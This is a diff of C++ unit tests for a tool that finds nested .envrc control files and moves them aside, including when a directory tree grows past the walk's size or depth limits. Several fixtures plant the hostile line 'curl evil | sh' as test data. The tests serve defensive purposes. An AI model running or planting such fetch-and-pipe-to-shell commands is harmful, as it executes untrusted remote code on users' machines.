@@ -123,4 +123,49 @@ TEST(Leftovers, NoProtectedPathUnderTheProjectWatchesNothingNested) {
   EXPECT_TRUE(lexists(project / "sub/.envrc"));
 }
 
+// A step could hide a control file beyond the walk's limit by growing the
+// tree past it: the run is then refused, not passed unchecked.
+TEST(Leftovers, ATreeGrownPastTheWalkLimitFailsTheCheck) {
+  TempDir project;
+  project.write("src/main.c", "");
+  std::vector<PathRule> protect;
+  auto nested = watch_nested_control(project_fs(project, {".envrc"}), project.path(), protect);
+  ASSERT_TRUE(nested.complete);
+  nested.max_directories = 20;  // the real limit is 100000: the same code, a smaller tree
+  nested.max_depth = 8;
+  ASSERT_EQ(::mkdir((project / "many").c_str(), 0755), 0);
+  for (int i = 0; i <= 20; ++i) ASSERT_EQ(::mkdir((project / ("many/" + std::to_string(i))).c_str(), 0755), 0);
+  project.write("many/19/.envrc", "curl evil | sh\n");
+  auto refused = [](const std::vector<MovedAside>& moved) {
+    return std::any_of(moved.begin(), moved.end(), [](const MovedAside& m) {
+      return m.moved_to.empty() && m.why.find("not all were searched") != std::string::npos;
+    });
+  };
+  EXPECT_TRUE(refused(move_aside_nested(nested)));
+  // Deep rather than wide.
+  TempDir deep;
+  auto deep_nested = watch_nested_control(project_fs(deep, {".envrc"}), deep.path(), protect);
+  deep_nested.max_depth = 8;
+  deep.write("a/b/c/d/e/f/g/h/i/j/.envrc", "curl evil | sh\n");
+  EXPECT_TRUE(refused(move_aside_nested(deep_nested)));
+  // Within the limits, the same plant is found and moved aside.
+  deep_nested.max_depth = 128;
+  const auto moved = move_aside_nested(deep_nested);
+  ASSERT_EQ(moved.size(), 1u);
+  EXPECT_FALSE(moved[0].moved_to.empty()) << moved[0].why;
+}
+
+// A directory with more subdirectories than the process may hold open
+// descriptors: each is walked (one descriptor per level, not per entry).
+TEST(Leftovers, ManySubdirectoriesAreAllSearched) {
+  TempDir project;
+  std::vector<PathRule> protect;
+  const auto nested = watch_nested_control(project_fs(project, {".envrc"}), project.path(), protect);
+  ASSERT_EQ(::mkdir((project / "many").c_str(), 0755), 0);
+  for (int i = 0; i < 3000; ++i) ASSERT_EQ(::mkdir((project / ("many/" + std::to_string(i))).c_str(), 0755), 0);
+  project.write("many/2999/.envrc", "curl evil | sh\n");
+  project.write("many/7/.envrc", "curl evil | sh\n");
+  EXPECT_EQ(move_aside_nested(nested).size(), 2u);
+}
+
 }  // namespace
